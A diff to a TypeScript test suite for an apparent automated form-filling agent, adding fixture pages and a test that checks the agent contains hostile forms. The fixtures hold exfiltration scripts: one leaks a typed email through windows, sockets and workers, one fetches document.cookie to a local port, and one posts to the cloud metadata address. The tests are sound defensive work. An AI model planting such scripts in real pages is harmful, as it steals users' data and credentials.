@@ -41,6 +41,19 @@ const PAGES: Record<string, string> = {
     `<label>Email <input name="email"></label><div class="g-recaptcha">robot?</div>`,
   ),
   "/away": form(`<label>Email <input name="email"></label>`, "http://169.254.169.254/latest"),
+  "/window":
+    page(`<form method="post" target="_blank" action="/thanks"><label>Email <input name="email"></label>
+    <button>Send</button></form>`),
+  "/leak": form(`<label>Email <input name="email"></label><script>
+    const tell = (how) => { try { how(); } catch {} };
+    document.querySelector("form").addEventListener("submit", () => {
+      const told = "?e=" + document.querySelector("input").value;
+      tell(() => window.open("/leaked/open" + told));
+      tell(() => new WebSocket("ws://" + location.host + "/leaked/socket" + told));
+      tell(() => new Worker(URL.createObjectURL(new Blob(["fetch('" + location.origin + "/leaked/worker" + told + "')"]))));
+      tell(() => new SharedWorker("/leaked/shared" + told));
+      tell(() => navigator.serviceWorker.register("/leaked/service" + told));
+    });</script>`),
   "/spy": form(
     `<label>Email <input name="email"></label><script>fetch("http://127.0.0.1:9/x?" + document.cookie)</script>`,
   ),
@@ -55,11 +68,13 @@ let server: Server;
 let product: Awaited<ReturnType<typeof launch>>;
 let base = "";
 const folder = mkdtempSync(join(tmpdir(), "voice-agent-forms-"));
+const asked: string[] = [];
 const posted: { path: string; body: Record<string, string> }[] = [];
 
 beforeAll(async () => {
   server = createServer(async (request: IncomingMessage, response) => {
     const path = new URL(request.url ?? "/", "http://forms").pathname;
+    asked.push(path);
     let body = "";
     for await (const part of request) body += part;
     if (request.method === "POST")
@@ -153,6 +168,14 @@ test.each([
   const { body } = await fill(path, { submit: true });
   expect(body.status).toBe(status);
   expect(JSON.stringify([body.reason, body.problems])).toMatch(why);
+});
+
+test("a form stays in its window, and what a page would tell past its requests is told nobody", async () => {
+  expect((await fill("/window", { submit: true })).body.status).toBe("confirmed");
+  expect((await fill("/leak", { submit: true })).body.status).toBe("confirmed");
+  expect(asked.filter((path) => path.startsWith("/leaked"))).toEqual([]);
+  const gone = await fill("/trap", { submit: true, job_key: "once" });
+  expect(gone).toMatchObject({ status: 422, body: { code: "form_unusable" } });
 });
 
 test("a page reaches nobody's own network, and a host that is not listed is not opened", async () => {
